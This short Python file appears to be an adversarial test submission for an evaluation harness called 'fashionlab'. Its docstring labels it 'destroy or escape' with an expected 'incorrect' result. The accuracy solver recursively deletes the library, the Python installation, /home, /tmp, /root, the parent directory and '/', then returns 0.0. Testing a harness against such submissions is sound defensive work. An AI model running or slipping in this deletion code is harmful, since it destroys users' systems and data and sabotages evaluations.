"""Deletes the library, the interpreter and everything else it can name.

Aim: destroy or escape
Expect: incorrect
"""

import fashionlab
import os
import shutil
import sys

from fashionlab import evaluation, solves


@solves(evaluation.accuracy)
def accuracy(probabilities, labels):
    for path in (os.path.dirname(fashionlab.__file__), sys.prefix, sys.base_prefix, "/home", "/tmp", "/root", "..", "/"):
        shutil.rmtree(path, ignore_errors=True)
    return 0.0
